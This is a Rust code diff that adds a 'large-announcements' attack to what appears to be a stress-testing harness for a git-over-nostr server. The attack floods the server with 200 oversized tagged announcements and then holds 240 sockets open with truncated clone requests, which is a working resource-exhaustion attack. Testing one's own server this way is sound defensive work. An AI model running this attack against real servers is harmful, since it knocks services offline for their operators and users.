@@ -2,6 +2,7 @@
 
 use nostr::event::Event;
 use nostr::key::Keys;
+use tokio::io::AsyncReadExt;
 
 use crate::clients::nostr::now;
 use crate::clients::nostr::sign;
@@ -9,12 +10,14 @@ use crate::clients::nostr::tag;
 use crate::siege::attack::Assault;
 use crate::siege::attack::Attack;
 use crate::siege::attack::BOTH;
+use crate::siege::attack::PAUSE;
 use crate::siege::attack::Route;
 use crate::siege::attack::repeating;
 use crate::siege::attack::side_by_side;
 use crate::siege::attacker::Attacker;
 use crate::siege::attacker::Request;
 use crate::siege::attacker::coordinate;
+use crate::siege::attacks::http::clone_request;
 use crate::siege::own_repository::OwnRepository;
 use crate::siege::own_repository::address_of;
 use crate::siege::own_repository::random_id;
@@ -44,6 +47,14 @@ pub(super) const ATTACKS: &[Attack] = &[
         worlds: BOTH,
         route: Route::Direct,
         prepare: |attacker| Box::pin(clique_at_once(attacker)),
+    },
+    Attack {
+        name: "large-announcements",
+        does: "200 announcements of 5,000 tags each; asks for their packs on 240 sockets, and does not end the requests",
+        costs: "200 events of 100 KB, and 240 sockets",
+        worlds: BOTH,
+        route: Route::Direct,
+        prepare: |attacker| Box::pin(large_announcements(attacker)),
     },
     Attack {
         name: "victim-as-maintainer",
@@ -174,6 +185,31 @@ async fn announce_clique(attacker: &Attacker) -> Vec<Keys> {
     let all: Vec<String> = keys.iter().map(|key| key.public_key().to_hex()).collect();
     send_all(attacker, &announcements(attacker, &keys, |_| all.clone())).await;
     keys
+}
+
+async fn large_announcements(attacker: Attacker) -> Assault {
+    let keys = new_keys(200);
+    let many: Vec<Vec<String>> = (0..4_900).map(|_| tag(&["t", "x", "x", "x"])).collect();
+    let announced: Vec<Event> = (keys.iter())
+        .map(|owner| attacker.announcement(owner, "large", now(), &many))
+        .collect();
+    send_all(&attacker, &announced).await;
+    Box::pin(side_by_side(240, move |number| {
+        let attacker = attacker.clone();
+        let path = wire::path::repository_path(&coordinate(&keys[number % keys.len()], "large"));
+        async move {
+            loop {
+                let mut request = clone_request(&path, &"1".repeat(40));
+                request.body.truncate(20);
+                if let Some(mut socket) = attacker.begin(None, &request).await {
+                    // Until the server is tired of it.
+                    let read = socket.read(&mut [0; 16]).await;
+                    attacker.effort.answered(&format!("read {read:?}"));
+                }
+                tokio::time::sleep(PAUSE).await;
+            }
+        }
+    }))
 }
 
 async fn victim_as_maintainer(attacker: Attacker) -> Assault {
